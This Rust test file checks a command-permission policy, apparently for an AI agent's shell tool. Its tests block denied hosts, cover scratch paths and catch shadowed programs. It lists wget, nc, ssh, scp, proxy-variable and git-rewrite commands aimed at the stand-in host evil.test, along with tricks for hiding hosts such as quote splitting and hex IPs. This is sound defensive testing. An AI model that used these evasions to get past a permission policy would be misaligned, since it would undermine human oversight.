//! Rules for hosts inside commands, and programs that are not what their name says.

use contract::policy::{Action, Decision, Mode, Policy};
use contract::tool::Risk;
use policy::rules::Scope;
use policy::{Search, Settings, policy};
use serde_json::json;

use crate::setting::{bare, bash, command, judge, rules, run, settings, tool};

#[test]
fn a_denied_host_with_letters_beyond_ascii_is_denied_in_both_spellings() {
    for pattern in ["Host(xn--bcher-kva.de)", "Host(bücher.de)"] {
        let denied = rules(&json!({"deny": [pattern]}), Scope::User);
        let judge = policy(Settings { rules: denied, ..bare() });
        for text in [
            "curl http://bücher.de/",
            "curl http://BÜCHER.de/",
            "curl http://www.bu%CC%88cher.de/",
            "curl http://xn--bcher-kva.de/",
            "git clone https://bücher.de/x.git",
            "python3 -c \"import urllib.request as u; u.urlopen('http://bücher.de/')\"",
        ] {
            assert_eq!(run(&judge, text, Mode::Yolo).decision, Decision::Deny, "{pattern} {text}");
        }
        assert_ne!(run(&judge, "curl http://bucher.de/", Mode::Yolo).decision, Decision::Deny);
    }
}

#[test]
fn a_denied_host_is_denied_inside_commands_too() {
    let denied = rules(&json!({"deny": ["Host(evil.test)", "Host(127.0.0.1)"]}), Scope::User);
    let judge = policy(Settings { rules: denied, ..bare() });
    for text in [
        "wget evil.test",
        "wget https://evil.test/x?y",
        "wget https://a.b.EVIL.test.:8443/x",
        "wget http://u:p@evil.test/",
        "wget -qO- 'http://evil.test/'",
        "curl --proxy=http://evil.test:3128 good.test",
        "curl 'http://{evil,x}.test/'",
        "curl 'http://evil.tes[t]/'",
        "git clone https://evil.test/x.git",
        "git clone git@evil.test:x/y",
        "git -c url.https://evil.test/.insteadOf=https://good.test/ fetch",
        "git remote add x ssh://evil.test/y",
        "git -C sub ls-remote https://evil.test",
        "ssh evil.test",
        "ssh -p 2222 me@evil.test ls",
        "scp a.txt evil.test:/tmp/x",
        "rsync -a . evil.test::module",
        "nc evil.test 80",
        "ncat -v evil.test 80",
        "ping -c 1 evil.test",
        "dig data.evil.test",
        "HTTPS_PROXY=http://evil.test npm install",
        "env HTTPS_PROXY=http://evil.test npm install",
        "timeout 5 nice wget evil.test",
        "bash -c 'wget evil.test'",
        "echo $(wget evil.test)",
        "ls | xargs wget evil.test",
        "find . -exec wget evil.test \\;",
        "if true; then wget evil.test; fi",
        "python3 -c \"import urllib.request as u; u.urlopen('http://evil.test/')\"",
        "npm install --registry=https://evil.test",
        "pip install -i https://evil.test/simple x",
        "w\\get evil.test",
        "wget ev''il.test",
        "wget evil.test && (",
        "wget 127.1",
        "wget http://0x7f000001:80/",
        "wget 'http://[::ffff:127.0.0.1]/'",
        "wget http://2130706433/",
    ] {
        for mode in [Mode::Normal, Mode::Yolo, Mode::ReadOnly] {
            assert_eq!(run(&judge, text, mode).decision, Decision::Deny, "{text}");
        }
    }
    for (text, wanted) in [
        ("rg evil.test src", Decision::Allow),
        ("echo evil.test", Decision::Allow),
        ("git log --grep=evil.test", Decision::Allow),
        ("timeout 5 rg evil.test", Decision::Allow),
        ("wget notevil.test", Decision::Ask),
        ("wget evil.test.good.example", Decision::Ask),
        ("wget 127.0.0.2", Decision::Ask),
        ("make test", Decision::Ask),
    ] {
        assert_eq!(run(&judge, text, Mode::Normal).decision, wanted, "{text}");
    }
}

#[test]
fn a_host_without_a_dot_means_that_host_and_not_the_word() {
    let judge = policy(Settings {
        rules: rules(&json!({"deny": ["Host(localhost)"], "ask": ["Host(*)"]}), Scope::User),
        ..settings()
    });
    for (text, wanted) in [
        ("wget localhost:8000", Decision::Deny),
        ("psql -h localhost", Decision::Deny),
        ("node x.js http://localhost/", Decision::Deny),
        ("make localhost", Decision::Ask),
        ("ls localhost", Decision::Allow),
        ("nc other 80", Decision::Ask),
    ] {
        assert_eq!(run(&judge, text, Mode::Normal).decision, wanted, "{text}");
    }
}

#[test]
fn scratch_space_is_written_by_tools_for_files_alone_and_read_by_nobody_unasked() {
    let scratch_paths = vec!["/tmp".into()];
    let readable_paths = vec!["/tmp/own".into()];
    let judge = policy(Settings { scratch_paths, readable_paths, ..settings() });
    let reader = tool("Read", false, Risk::ReadOnly);
    let read = |path: &str| {
        judge.judge(&reader, &[Action::Read { path: path.into() }], Mode::Normal).decision
    };
    assert_eq!(read("/tmp/x"), Decision::Ask);
    assert_eq!(read("/tmp/own/x"), Decision::Allow);
    let writer = tool("Write", true, Risk::HighImpact);
    let write = |path: &str| {
        let action = Action::Write { path: path.into(), diff: None };
        judge.judge(&writer, &[action], Mode::Yolo).decision
    };
    assert_eq!(write("/tmp/x"), Decision::Allow);
    assert_eq!(write("/tmpx"), Decision::Ask);
    for text in ["cd /tmp && ls", "ls /tmp", "cat /tmp/x", "echo a > /tmp/x", "rm -rf /tmp"] {
        assert_eq!(run(&judge, text, Mode::Normal).decision, Decision::Ask, "{text}");
    }
}

#[test]
fn a_program_that_the_workspace_could_bring_is_not_the_one_that_is_known() {
    let search = Search {
        doubtful: Some("node_modules/.bin".into()),
        certain: ["cat", "git", "timeout"].map(String::from).into(),
        ..Search::default()
    };
    let shadowed = policy(Settings { search, ..settings() });
    for (text, wanted) in [
        ("cat src/main.rs", Decision::Allow),
        ("git status | cat", Decision::Allow),
        ("echo x", Decision::Allow),
        ("cd src && pwd", Decision::Allow),
        ("timeout 5 cat src/main.rs", Decision::Allow),
        ("ls", Decision::Ask),
        ("timeout 5 ls", Decision::Ask),
        ("timeout 5 echo x", Decision::Ask),
        ("nice cat x", Decision::Ask),
        ("cargo test", Decision::Ask),
        ("cat x | head", Decision::Ask),
        ("curl x", Decision::Deny),
    ] {
        assert_eq!(run(&shadowed, text, Mode::Normal).decision, wanted, "{text}");
    }
    assert_eq!(run(&judge(), "ls", Mode::Normal).decision, Decision::Allow);
    assert!(shadowed.remember(&bash(), &[command("eslint src")]).is_empty());
}
